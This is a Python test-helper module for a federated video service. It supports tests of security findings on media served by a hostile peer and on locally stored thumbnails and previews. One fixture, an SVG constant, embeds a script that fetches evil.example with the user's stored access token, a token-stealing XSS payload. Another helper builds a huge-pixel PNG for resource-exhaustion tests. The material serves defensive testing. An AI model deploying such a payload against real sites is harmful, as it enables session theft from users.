"""Helpers of the remote media and remote content findings (C2, H1, M7): images a hostile
peer serves, what the media bucket holds, and local videos with thumbnails to protect."""

from __future__ import annotations

import io
import struct
import zlib
from typing import Any

from chalicelib import aws
from chalicelib.config import get_settings
from chalicelib.media import layout
from chalicelib.store import media
from chalicelib.store.models import Video
from tests.api_client import ApiClient
from tests.conftest import ROOT_PASSWORD
from tests.federation_peer import Peer
from tests.queue_runner import drain_federation

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="280" height="157">'
    b"<script>fetch('https://evil.example/?t='+localStorage.getItem('access_token'))</script></svg>"
)
LOCAL_THUMBNAIL = b"\xff\xd8local thumbnail bytes\xff\xd9"
LOCAL_PREVIEW = b"\xff\xd8local preview bytes\xff\xd9"


def image(kind: str, width: int = 64, height: int = 36) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (10, 160, 90)).save(buffer, kind)
    return buffer.getvalue()


def many_pixels_png(width: int, height: int) -> bytes:
    """A valid black PNG of width x height pixels (1 bit each) in a few kilobytes."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)  # filter byte, then the packed bits
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def serve(peer: Peer, files: dict[str, tuple[str, bytes]]) -> None:
    """Make the peer answer GET `path` with (content type, body) for each of `files`."""
    original = peer.answer_get

    def answer(raw_path: str) -> tuple[int, str, bytes]:
        path = raw_path.split("?", 1)[0]
        if path in files:
            content_type, body = files[path]
            return 200, content_type, body
        return original(raw_path)

    peer.answer_get = answer  # type: ignore[method-assign]


def media_objects() -> dict[str, tuple[str, bytes]]:
    """Every object of the media bucket: key -> (content type, body)."""
    s3 = aws.s3()
    bucket = get_settings().media_bucket
    found: dict[str, tuple[str, bytes]] = {}
    for page in s3.get_paginator("list_objects_v2").paginate(Bucket=bucket):
        for item in page.get("Contents", []):
            got = s3.get_object(Bucket=bucket, Key=item["Key"])
            found[item["Key"]] = (got["ContentType"], got["Body"].read())
    return found


def local_video_with_images(account_id: int, channel_id: int, name: str) -> Video:
    """A published local video whose thumbnail and preview are in the media bucket."""
    from tests.video_seed import add_video

    video = add_video(account_id, channel_id, name, has_images=True)
    media.put_file(layout.thumbnail_key(str(video.uuid)), LOCAL_THUMBNAIL, "image/jpeg")
    media.put_file(layout.preview_key(str(video.uuid)), LOCAL_PREVIEW, "image/jpeg")
    return video


def local_images(video: Video) -> tuple[bytes | None, bytes | None]:
    objects = media_objects()
    thumbnail = objects.get(layout.thumbnail_key(str(video.uuid)))
    preview = objects.get(layout.preview_key(str(video.uuid)))
    return (thumbnail[1] if thumbnail else None, preview[1] if preview else None)


def follow_peer(api: ApiClient, peer: Peer) -> None:
    """Our instance follows the peer (accepted): its content is then wanted and listed."""
    peer.followed_by_our_instance(api, api.login("root", ROOT_PASSWORD)["access_token"])


def send(api: ApiClient, peer: Peer, activity: dict[str, Any], name: str = "carol") -> None:
    """POST a signed activity from the peer's `name` to our shared inbox and process it."""
    assert peer.post(api, "/inbox", activity, name=name).status == 204
    drain_federation()


def activity(peer: Peer, kind: str, video: dict[str, Any], suffix: str) -> dict[str, Any]:
    """An activity of carol's on the peer (its id on the peer's host, as ids must be)."""
    return {
        "type": kind,
        "id": f"{video['id']}/{kind.lower()}/{suffix}",
        "actor": peer.url("carol"),
        "to": ["https://www.w3.org/ns/activitystreams#Public"],
        "object": video if kind != "Delete" else video["id"],
    }
